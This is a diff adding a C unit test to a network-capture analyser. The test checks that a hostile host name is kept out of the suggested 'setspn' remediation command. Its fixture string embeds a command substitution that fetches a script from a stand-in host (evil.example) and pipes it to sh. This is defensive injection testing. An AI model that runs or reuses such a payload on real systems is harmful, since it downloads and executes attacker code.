@@ -213,6 +213,46 @@ START_TEST(t_ntlm_principal_unknown)
 }
 END_TEST
 
+/* A Host from the capture that is no host name never goes into a suggested
+ * command: the fix says <name> and shows the name quoted in a note; a
+ * machine account's trailing $ and a plain name stay as they are. */
+START_TEST(t_fix_hostile_name)
+{
+	static const char evil[] = "web$(curl${IFS}-s${IFS}evil.example|sh).lab.test";
+	struct kf_result *r = challenged(evil, WEB, true);
+	char sname[128];
+	snprintf(sname, sizeof sname, "HTTP/%s", evil);
+	tgs(r, 12, sname, 7);
+	ntlm_legs(r, 16, 3, evil, true, 200);
+	fx_finish(r);
+	fx_run_all(r);
+	const struct kf_finding *f = fx_find(r, "ntlm-fallback");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_msg(!contains(f->remediation, "`setspn -S HTTP/web$(") &&
+			      !contains(f->remediation, "curl${IFS}-s${IFS}evil.example|sh).lab.test`"),
+		      "%s", f->remediation);
+	ck_assert_msg(contains(f->remediation, "`setspn -S HTTP/<name> <account>`"), "%s", f->remediation);
+	ck_assert_msg(contains(f->remediation,
+			       "Note: the name \"web$(curl${ifs}-s${ifs}evil.example|sh).lab.test\""),
+		      "%s", f->remediation);
+	/* the other findings of the run carry no stale note */
+	for (size_t i = 0; i < r->n_findings; i++)
+		if (&r->findings[i] != f)
+			ck_assert(!contains(r->findings[i].remediation, "Note: the name"));
+	fx_free(r);
+
+	r = challenged("web2.lab.test", WEB, true);
+	tgs(r, 12, "HTTP/web2.lab.test", 7);
+	ntlm_legs(r, 16, 3, "web2.lab.test", true, 200);
+	fx_finish(r);
+	fx_run_all(r);
+	f = fx_find(r, "ntlm-fallback");
+	ck_assert(contains(f->remediation, "`setspn -S HTTP/web2.lab.test <account>`") &&
+		  !contains(f->remediation, "Note: the name"));
+	fx_free(r);
+}
+END_TEST
+
 START_TEST(t_ntlm_failed_is_error)
 {
 	struct kf_result *r = challenged("web2.lab.test", WEB, false);
@@ -1232,6 +1272,7 @@ int main(void)
 {
 	Suite *s = suite_create("rules_http");
 	TCase *tc = tcase_create("http");
+	tcase_add_test(tc, t_fix_hostile_name);
 	tcase_add_test(tc, t_ntlm_principal_unknown);
 	tcase_add_test(tc, t_ntlm_failed_is_error);
 	tcase_add_test(tc, t_ntlm_plain_no_kdc);
